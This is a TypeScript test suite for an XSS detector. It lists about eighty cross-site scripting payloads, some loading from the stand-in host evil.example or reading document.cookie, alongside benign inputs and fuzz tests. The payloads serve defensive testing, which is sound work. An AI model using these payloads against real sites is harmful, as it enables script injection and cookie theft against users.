import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { dangerousUrl } from './danger.ts';
import { FOUND, scanAttributes, scanData } from './html-scan.ts';
import { detectXSS } from './index.ts';

/** detectXSS without its indexOf shortcuts: every context scanned in full. */
function fullScan(s: string): boolean {
  if (s.length === 0) return false;
  if (dangerousUrl(s, 0, s.length)) return true;
  const lt = s.indexOf('<');
  if (lt >= 0 && scanData(s, lt)) return true;
  const after = (i: number) => {
    const next = scanAttributes(s, i);
    return next === FOUND || (next < s.length && scanData(s, next));
  };
  for (const q of ['"', "'"]) {
    const close = s.indexOf(q);
    if (close >= 0 && after(close + 1)) return true;
  }
  const stop = s.search(/[ \t\n\f\r>]/);
  if (stop < 0) return false;
  return s[stop] === '>' ? scanData(s, stop + 1) : after(stop);
}

/** Script injections, each as it would arrive in a parameter value (already percent-decoded). */
const ATTACKS: readonly string[] = [
  // Elements.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  'www.github.com<script><img><iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<applet code="X.class">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<frameset><frame src="javascript:alert(1)">',
  '<isindex action="javascript:alert(1)" type=image>',
  '<scr\0ipt>alert(1)</script>',
  // Event handlers.
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  "<img src='x' onerror='alert(1)'>",
  '<svg/onload=alert(1)>',
  '<svg onload=alert(1)',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<xss onbeforehellfreezes=alerw(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<img src=x ONERROR=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<video><source onerror="alert(1)">',
  '<marquee onstart=alert(1)>',
  '<img src=x on\0error=alert(1)>',
  // URLs.
  '<a href="javascript:alert(1)">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x61;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#00000000000106;avascript:alert(1)">x</a>',
  '<a href="&#x000000006A;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" \x01javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  'javascript:alert(document.cookie)',
  '  JAVASCRIPT:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  // Style and srcdoc.
  '<div style="width: expression(alert(1))">',
  '<div style="background:url(javascript:alert(1))">',
  '<div style="-moz-binding:url(x.xml#xss)">',
  '<div style="behavior: url(x.htc)">',
  '<iframe2 srcdoc="<script>alert(1)</script>">',
  // Conditional comments.
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![if true]>',
  '<?x a="><script>alert(1)</script>">',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!-- x --!><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg></svg>',
  // Values that start inside an attribute the application wrote.
  '" onmouseover="alert(1)',
  '/get/"onmouseover=\'prompt(document.cookie)\'"',
  "' autofocus onfocus='alert(1)",
  'x onerror=alert(1)',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  'x><svg onload=alert(1)>',
  '" style="x:expression(alert(1))',
  '" href="javascript:alert(1)',
];

/** Benign values with markup-like characters: none may be flagged. */
const BENIGN: readonly string[] = [
  'a < b and c > d',
  '5<6',
  'x<y',
  '<3',
  'I <3 you',
  '1 <= 2',
  'if a<b then c>d',
  '<<< loud >>>',
  '<b>bold</b> and <i>italic</i>',
  '<p>Hello, <strong>world</strong>!</p>',
  '<a href="https://example.com/">example</a>',
  '<a href="/relative/path">link</a>',
  '<a href="mailto:me@example.com">mail</a>',
  '<img src="cat.png" alt="A cat">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<br/>',
  '<div class="note">text</div>',
  '<span title="one">x</span>',
  '<table><tr><td>1</td></tr></table>',
  '<ul><li>one</li><li>two</li></ul>',
  '<!-- a comment -->',
  '<!-- a --!> b',
  '<!-- <script>alert(1)</script> -->',
  '<!DOCTYPE html>',
  '<?xml version="1.0" encoding="UTF-8"?>',
  '<?xml-stylesheet type="text/xsl" href="style.xsl"?>',
  'John Doe <john@example.com>',
  'Vector<int> v;',
  'List<String> names = new ArrayList<>();',
  'a -> b',
  '=> arrow',
  'x = y + z',
  'name=value',
  'a=1&b=2',
  'online now',
  "Let's meet online tomorrow",
  'one two three',
  'once upon a time',
  'The "quoted" word',
  "It's O'Brien's",
  'He said "hi" and left',
  'javascript is fun',
  'Learn JavaScript: the good parts',
  'https://example.com/javascript/tutorial',
  'http://www.coreruleset.org',
  '/get/index.php/foo',
  'style guide',
  '<p style="scroll-behavior: smooth; overscroll-behavior-x: none">',
  'expression of interest',
  'source code',
  'onerror',
  'on=off',
  'turn on=1',
  'x onerror=',
  '  onthisisaverylongwordthathasmorethanfiftycharactersss= ',
  'data:image/png;base64,AAAA',
  'script',
  'scripts are fun',
  '<scripts>',
  '<description>text</description>',
  'C:\\Program Files\\App',
  '{"html":"<b>x</b>"}',
  'price < 10 & qty > 2',
  '< script >',
  'email: a@b.c, phone: <none>',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
];

describe('detectXSS', () => {
  it('flags script injections', () => {
    const missed = ATTACKS.filter((a) => !detectXSS(a));
    assert.deepEqual(missed, []);
  });

  it('leaves benign values alone', () => {
    const flagged = BENIGN.filter((b) => detectXSS(b));
    assert.deepEqual(flagged, []);
  });

  it('has at least 60 vectors of each kind', () => {
    assert.ok(ATTACKS.length >= 60 && BENIGN.length >= 60);
  });

  it('reads the value from inside each kind of attribute value', () => {
    // Breaks out of a double-quoted value only: a single quote does not close it.
    assert.equal(detectXSS('" onclick="alert(1)'), true);
    assert.equal(detectXSS('x onclick=alert(1)'), true);
    // An event name with no value runs nothing.
    assert.equal(detectXSS('" onclick'), false);
  });

  it('skips a context only when the full scan of it finds nothing', () => {
    const parts = ['"', "'", ' ', '=', '<', '>', '/', 'on', 'click', 'x', 'style', 'srcdoc', 'javascript:'];
    const more = [
      'java',
      ':',
      '&#x61;',
      '&colon;',
      'expression(',
      '-',
      '\0',
      'data:text/html',
      'img',
      '!',
      '?',
    ];
    const alphabet = [...parts, ...more];
    let seed = 12345;
    const next = () => {
      seed ^= seed << 13;
      seed ^= seed >>> 17;
      seed ^= seed << 5;
      return (seed >>> 0) / 0x100000000;
    };
    let flagged = 0;
    for (let n = 0; n < 50_000; n++) {
      let s = '';
      for (let i = Math.floor(next() * 16); i > 0; i--) s += alphabet[Math.floor(next() * alphabet.length)];
      const full = fullScan(s);
      if (full) flagged++;
      assert.equal(detectXSS(s), full, JSON.stringify(s));
    }
    assert.ok(flagged > 1000);
  });

  it('stays linear on long and adversarial inputs', () => {
    for (const big of ['<'.repeat(100_000), '<a '.repeat(50_000), '&#'.repeat(50_000), '"'.repeat(100_000)]) {
      assert.equal(detectXSS(big), false);
    }
    assert.equal(detectXSS(`${'a '.repeat(50_000)}<script>`), true);
  });
});
